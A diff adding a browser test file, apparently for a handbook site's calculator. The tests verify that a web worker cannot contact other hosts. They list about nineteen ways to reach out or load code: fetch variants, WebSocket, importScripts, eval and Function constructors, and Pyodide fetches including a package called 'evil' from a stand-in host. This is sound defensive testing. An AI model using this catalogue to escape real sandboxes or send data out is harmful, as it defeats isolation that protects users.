@@ -1,0 +1,137 @@
+"""What code in the worker reaches, on a host that sends no content policy: files of the handbook, told nothing."""
+
+import re
+
+import pytest
+from playwright.sync_api import Error, expect
+
+from site_assets.build import serve
+from site_assets.build.serve import Server
+from tests.browser.test_calculator import START
+
+PAGE = "calculators/main-bonding-jumper.html"
+SCRIPTS = serve.Path(serve.__file__).parent.parent / "scripts"
+# Each asks the other host for something; it counts what it is asked, whether or not the answer may be read.
+ATTEMPTS = {
+    "fetch": "fetch(there)",
+    "fetch without permission to read": "fetch(there, { mode: 'no-cors' })",
+    "fetch beneath the one in use": "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch?.call(self, there)",
+    "request": "fetch(new Request(there, { method: 'POST', body: 'told', mode: 'no-cors' }))",
+    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('GET', there, false); x.send() }",
+    "socket": "new WebSocket(there.replace('http', 'ws'))",
+    "events": "new EventSource(there)",
+    "script": "importScripts(there)",
+    "worker in the worker": "new Worker(there)",
+    "shared worker": "new SharedWorker(there)",
+    "eval": "(0, eval)('import(there)')",
+    "function of text": "new Function('return import(there)')()",
+    "constructor of a function": "(() => {}).constructor('return import(there)')()",
+    "constructor of an async function": "(async () => {}).constructor('return import(there)')()",
+    "timer of text": "setTimeout('import(there)')",
+    "python, fetch": "python().runPythonAsync('import js; await js.fetch(js.there)')",
+    "python, request": "python().runPythonAsync('import js; await js.fetch(js.Request.new(js.there))')",
+    "python, package": "python().loadPackage(there + 'evil-1.0-py3-none-any.whl')",
+    "python, text": "python().runPythonAsync('import js; js.eval(\"import(there)\")')",
+}
+# Python says on the console alone that a package did not come.
+TELL_NOTHING = {"python, package"}
+# Within the handbook too, only files are brought, and nothing is told.
+TOLD = {
+    "in the address": "fetch(home + 'index.html?what=typed')",
+    "in a body": "fetch(home + 'index.html', { method: 'POST', body: 'typed' })",
+    "above the handbook": "fetch(new URL('../other/', home))",
+}
+TRY = """async ([attempt, there, home]) => {
+  Object.assign(self, { there, home });
+  try {
+    await ATTEMPT;
+    return "done";
+  } catch (error) {
+    return `refused: ${error}`;
+  }
+}"""
+
+
+@pytest.fixture
+def other(tmp_path):
+    """Yield a host that is not ours, and has what is asked for."""
+    (tmp_path / "index.html").write_text("theirs")
+    (tmp_path / "evil.js").write_text("postMessage('theirs')")
+    with Server(tmp_path) as server:
+        yield server
+
+
+@pytest.fixture
+def page(browser):
+    """Yield a page that may complain: what it is asked here is refused."""
+    context = browser.new_context(service_workers="block")
+    yield context.new_page()
+    context.close()
+
+
+@pytest.fixture
+def worker(page, site_folder, monkeypatch):
+    """Yield the worker of a page that has answered, from a host without headers, with Python within reach."""
+    monkeypatch.setattr(serve, "policy_page", lambda *_: None)
+
+    def with_python(route):
+        script = route.fetch().text()
+        assert "let pyodide;" in script
+        route.fulfill(body=f"{script}\nself.python = () => pyodide;", content_type="text/javascript")
+
+    page.context.route(re.compile(r"/calculator-worker\.js$"), with_python)
+    with Server(site_folder, "/handbook/") as host:
+        page.goto(f"{host.address}{PAGE}?conductor=3/0")
+        expect(page.locator("[data-result] [data-outcome=answer]")).to_be_visible(timeout=START)
+        yield calculating(page), host.address
+
+
+def calculating(page):
+    """Return the worker that calculates; the search has another."""
+    (worker,) = [each for each in page.workers if "calculator-worker" in each.url]
+    return worker
+
+
+def attempt(worker, code, there, home):
+    """Return how one attempt in the worker ended."""
+    block = code if code.startswith("{") else f"({code})"
+    script = TRY.replace("await ATTEMPT;", f"{block};" if code.startswith("{") else f"await {block};")
+    return worker.evaluate(script, [code, there, home])
+
+
+def test_the_worker_reaches_no_other_host_though_no_header_forbids_it(worker, other):
+    running, home = worker
+    for name, code in ATTEMPTS.items():
+        try:
+            ended = attempt(running, code, other.address, home)
+        except Error as error:
+            ended = f"refused: {error}"
+        assert other.requested == [], name
+        assert ended.startswith("refused") or name in TELL_NOTHING, (name, ended)
+
+
+def test_the_worker_tells_nothing_to_its_own_host_either(worker):
+    running, home = worker
+    for name, code in TOLD.items():
+        assert attempt(running, code, "", home).startswith("refused"), name
+    assert attempt(running, "fetch(home + 'index.html')", "", home) == "done"
+
+
+def test_without_its_own_guard_the_worker_would_reach_the_other_host(page, site_folder, other, monkeypatch):
+    """The test above can fail: no header, and what is tried does leave the machine."""
+    monkeypatch.setattr(serve, "policy_page", lambda *_: None)
+    nothing = {"body": "", "content_type": "text/javascript"}
+    page.context.route(re.compile(r"/worker-reach\.js$"), lambda route: route.fulfill(**nothing))
+    with Server(site_folder, "/handbook/") as host:
+        page.goto(f"{host.address}{PAGE}?conductor=3/0")
+        expect(page.locator("[data-result] [data-outcome=answer]")).to_be_visible(timeout=START)
+        attempt(calculating(page), "fetch(there, { mode: 'no-cors' })", other.address, host.address)
+    assert other.requested == ["/"]
+
+
+def test_every_worker_closes_its_doors_before_all_else():
+    workers = sorted(SCRIPTS.glob("*-worker.js"))
+    assert workers
+    for file in workers:
+        (first, *_) = re.findall(r"^import .*$", file.read_text(encoding="utf-8"), re.MULTILINE)
+        assert first.startswith('import "./worker-reach.js";'), file.name
